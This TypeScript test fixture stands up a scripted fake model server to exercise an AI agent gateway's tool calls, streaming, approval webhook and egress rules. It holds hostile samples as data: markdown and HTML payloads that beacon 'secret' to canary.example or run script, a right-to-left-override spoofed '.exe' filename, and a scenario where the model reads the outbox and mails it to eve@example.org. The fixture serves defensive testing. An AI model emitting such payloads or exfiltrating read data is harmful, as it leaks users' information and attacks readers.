// A real server whose model does odd things when it is asked for them.

import type { ServerResponse } from 'node:http';
import { type Outside, addTool, startOutside } from './outside';
import { type TestServer, startServer } from './server';

/** What the model says when it is asked to speak slowly. */
export const WORDS = Array.from({ length: 400 }, (_, n) => `word${n}`);

const WORD_MS = 12;

/** So long a slow tool takes. */
const SLOW_MS = 4_000;

const TRICKY = `invoice\u202egpj.exe <img src=x onerror=alert(1)>\u200b${'\n'.repeat(300)}the end`;

const HOSTILE = [
  '![leak](https://canary.example/inline.png?d=secret)',
  '![leak][ref]\n\n[ref]: https://canary.example/reference.png',
  '<img src="https://canary.example/html.png" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><image href="https://canary.example/svg.png"/></svg>',
  '<style>body{background:url(https://canary.example/css.png)}</style>',
  '<script>window.pwned=1</script> [click](javascript:window.pwned=1)',
  'The end of it.',
].join('\n\n');

type Call = [name: string, input: object];

/** What it calls, after so many results. */
function callsFor(text: string, results: number): Call[] {
  if (/over and over|一直重复/.test(text)) return [['time', {}]];
  if (results === 1 && /send out what you read|读完再发/.test(text)) return [['send_mail', { to: 'eve@example.org' }]];
  if (results > 0) return [];
  if (/read the outbox|读发件箱|send out what you read|读完再发/.test(text)) return [['outbox', {}]];
  if (/read slowly|慢慢读/.test(text)) return [['slow_reading', {}]];
  if (/two fields wrong|填错/.test(text))
    return [['send_mail', { subject: 'A subject that is much too long', copies: 50 }]];
  if (/unknown tool|没有的工具/.test(text)) return [['no_such_thing', {}]];
  if (/two notes|两条笔记/.test(text)) return ['first', 'second'].map((note) => ['save_note', { text: note }]);
  if (/tricky note|古怪的笔记/.test(text)) return [['save_note', { text: TRICKY }]];
  if (/cut off the mail|发邮件/.test(text)) return [['send_mail', { to: 'mei@example.org', subject: 'Nine o’clock' }]];
  if (/divide by zero|除以零/.test(text)) return [['calculator', { expression: '1/0' }]];
  if (/search for|搜索/.test(text)) return [['search_web', { query: 'tea' }]];
  return [];
}

interface Asked {
  model: string;
  messages: { role: string; content: string }[];
}

/** A model server in OpenAI's form. */
async function speak({ model, messages }: Asked, response: ServerResponse): Promise<void> {
  if (model === 'down') return void response.writeHead(503).end('out of order');
  const asked = messages.findLastIndex(({ role }) => role === 'user');
  const text = messages[asked]?.content ?? '';
  const results = messages.slice(asked).filter(({ role }) => role === 'tool').length;
  const send = (delta: object, finish: string | null = null, more: object = {}) =>
    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }], ...more })}\n\n`);
  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
  const calls = callsFor(text, results).map(([name, input], index) => ({
    index,
    id: `call_${index + 1}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(input) },
  }));
  if (/break down|中断/.test(text) && results === 0) {
    send({ role: 'assistant', content: 'I begin, and then ' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    response.destroy();
    return;
  }
  if (calls.length > 0) {
    send({ role: 'assistant', tool_calls: calls });
  } else if (/slowly|慢慢/.test(text)) {
    for (const word of WORDS) {
      send({ content: `${word} ` });
      await new Promise((resolve) => setTimeout(resolve, WORD_MS));
      if (response.destroyed) return;
    }
  } else {
    send({ role: 'assistant', content: text.includes('hostile markdown') ? HOSTILE : 'That was all.' });
  }
  const usage = { prompt_tokens: 40, completion_tokens: 6, total_tokens: 46 };
  send({}, calls.length > 0 ? 'tool_calls' : 'stop', { usage });
  response.end('data: [DONE]\n\n');
}

export interface OddWorld {
  server: TestServer;
  url: string;
  /** The signed links that were sent to whoever decides, the newest last. */
  links: string[];
  close: () => Promise<void>;
}

export async function startOddWorld(token?: string): Promise<OddWorld> {
  const model = await startOutside((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => (body += piece.toString()));
    request.on('end', () => void speak(JSON.parse(body) as Asked, response));
  });
  const post = await startOutside((request, response) => {
    // A mail is taken, and nobody ever hears of it.
    if (request.method === 'POST') return void request.on('end', () => request.socket.destroy()).resume();
    const answer = () => response.writeHead(200, { 'Content-Type': 'text/plain' }).end('1 mail');
    return request.url === '/slow' ? void setTimeout(answer, SLOW_MS) : answer();
  });
  const links: string[] = [];
  const webhook = await startOutside((request, response) => {
    let body = '';
    request.on('data', (piece: Buffer) => (body += piece.toString()));
    request.on('end', () => {
      links.push((JSON.parse(body) as { link: string }).link);
      response.writeHead(204).end();
    });
  });
  const server = await startServer({ config: config(model, post, webhook), ...(token !== undefined && { token }) });
  if (token === undefined) await addMail(server, post);
  const outsides = [model, post, webhook];
  const close = async () => void (await Promise.all([server.close(), ...outsides.map((one) => one.close())]));
  return { server, url: server.url, links, close };
}

function config(model: Outside, post: Outside, webhook: Outside): string {
  const common = `protocol = "openai_chat"\nbase_url = "http://${model.host}/v1"\ntools = "native"\nprobe = false`;
  return `
    default_model = "odd"
    [[models]]
    name = "odd"
    model = "m"
    price = { input = 0.25, cached = 0.025, output = 2.00 }
    ${common}
    [[models]]
    name = "house"
    model = "gpt-5-mini"
    price = { input = 0.25, cached = 0.025, output = 2.00 }
    ${common}
    [models.variants]
    brief = { max_tokens = 300 }
    thorough = { max_tokens = 3000 }
    [[models]]
    name = "small"
    model = "qwen3:0.6b"
    protocol = "openai_chat"
    base_url = "http://${model.host}/v1"
    tools = "prompt:hermes"
    probe = false
    [[models]]
    name = "volcano"
    vendor = "ark"
    model = "doubao"
    [[models]]
    name = "desk"
    vendor = "ollama"
    base_url = "http://127.0.0.1:9"
    model = "qwen3:8b"
    [[models]]
    name = "down"
    model = "down"
    ${common}
    [approvals]
    webhook = "http://${webhook.host}/asked"
    [egress]
    allow = ["${post.host}"]`;
}

async function addMail(server: TestServer, post: Outside): Promise<void> {
  const parameters = {
    type: 'object',
    properties: {
      to: { type: 'string' },
      subject: { type: 'string', maxLength: 20 },
      copies: { type: 'integer', maximum: 3 },
    },
  };
  const endpoint = { url: `http://${post.host}/outbox`, method: 'GET' };
  const cache = { ttl_ms: 60_000, scope: 'user' };
  await addTool(server, { name: 'outbox', description: 'Looks into the outbox.', parameters, endpoint, cache });
  const slow = { url: `http://${post.host}/slow`, method: 'GET' };
  await addTool(server, { name: 'slow_reading', description: 'Reads slowly.', endpoint: slow });
  await addTool(server, {
    name: 'send_mail',
    description: 'Sends a mail.',
    parameters,
    endpoint: { url: `http://${post.host}/send`, method: 'POST' },
    check_tool: 'outbox',
  });
}
